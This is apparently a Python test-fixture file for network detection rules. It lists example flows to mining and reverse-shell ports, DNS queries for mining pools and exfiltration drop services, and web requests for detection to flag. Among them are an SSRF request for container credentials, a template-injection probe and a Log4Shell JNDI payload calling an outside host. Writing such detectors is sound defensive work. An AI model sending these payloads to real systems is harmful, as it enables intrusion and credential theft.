"""Examples of our rules on flows, DNS queries and requests."""

from tests.detect.example_records import Examples, Record, flow, line


def asked(name: str) -> Record:
    """A DNS query."""
    return {"query_name": name, "query_timestamp": "2026-11-05T09:00:00Z"}


def held(count: int) -> list[Record]:
    """One connection to a pool, as records of a minute each."""
    return [flow("203.0.113.7", 3333, packets=2, start=f"2026-11-05T09:{place:02}:00Z") for place in range(count)]


EXAMPLES: Examples = {
    "flow_to_a_mining_port": (
        [flow("203.0.113.7", 3333), flow("198.51.100.7", 14444)],
        [
            flow("10.0.2.7", 3333),
            flow("203.0.113.7", 443),
            flow("203.0.113.7", 3333, action="REJECT"),
            flow("203.0.113.7", 3333, srcport=443),
            flow("203.0.113.7", 3333, packets=1),
        ],
    ),
    "flow_held_to_a_mining_port": (held(10), [flow("203.0.113.8", 3333), flow("10.0.2.7", 3333)]),
    "flow_to_a_shells_port": (
        [flow("203.0.113.7", 4444)],
        [flow("203.0.113.7", 4444, packets=1), flow("10.0.2.7", 4444), flow("203.0.113.7", 4444, action="REJECT")],
    ),
    "dns_name_of_a_mining_pool": (
        [asked("xmr-eu1.nanopool.org."), asked("pool.example.net.")],
        [asked("nanopool.org.example.com."), asked("pool.ntp.org."), asked("carpool.example.com.")],
    ),
    "dns_name_of_a_drop": (
        [asked("x1.oast.pro."), asked("webhook.site.")],
        [asked("oast.pro.example.com."), asked("hooks.example.com.")],
    ),
    "web_path_to_credentials": (
        [line("/fetch?url=http://169.254.170.2/v2/credentials")],
        [line("/fetch?url=http://169.254.170.2/", 404), line("/index.html")],
    ),
    "web_request_with_code": (
        [line("/api/import?template={{7*7}}", 502), line("/x?q=${jndi:ldap://203.0.113.7/a}")],
        [line("/api/import?template={{7*7}}", 404), line("/api/import?template=plain")],
    ),
}
FEW = {"flow_held_to_a_mining_port": held(9)}
